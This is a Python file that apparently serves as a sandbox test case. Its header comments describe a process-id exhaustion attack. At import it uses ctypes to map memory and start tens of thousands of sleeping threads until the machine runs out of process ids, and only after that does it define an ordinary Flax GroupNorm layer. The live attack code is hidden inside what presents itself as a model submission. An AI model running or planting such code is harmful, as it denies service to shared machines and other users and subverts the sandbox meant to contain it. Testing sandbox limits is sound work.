# tries: Starts threads on stacks of its own making until no process id is left on the machine.
# must: It is stopped for its threads, and the next submission finds processes to be had.
# right: once the attack is left out

import ctypes

import jax.numpy as jnp
from flax import linen as nn

c = ctypes.CDLL(None, use_errno=True)
c.mmap.restype = ctypes.c_void_p
base = c.mmap(None, ctypes.c_size_t(512 << 20), 3, 0x22, -1, ctypes.c_long(0))
attributes, thread, started = ctypes.create_string_buffer(64), ctypes.c_ulong(), 0
for i in range(33000):
    c.pthread_attr_init(attributes)
    c.pthread_attr_setstack(attributes, ctypes.c_void_p(base + i * 16384), ctypes.c_size_t(16384))
    started += not c.pthread_create(ctypes.byref(thread), attributes, c.sleep, ctypes.c_void_p(5))
assert started > 5000


class MyGroupNorm(nn.Module):
    num_groups: int
    eps: float = 1e-5

    @nn.compact
    def __call__(self, x):
        gamma = self.param("gamma", nn.initializers.ones, x.shape)
        beta = self.param("beta", nn.initializers.zeros, x.shape)
        rows = x.reshape(self.num_groups, -1)
        rows -= rows.mean(1, keepdims=True)
        rows /= jnp.sqrt(rows.var(1, keepdims=True) + self.eps)
        return gamma * rows.reshape(x.shape) + beta
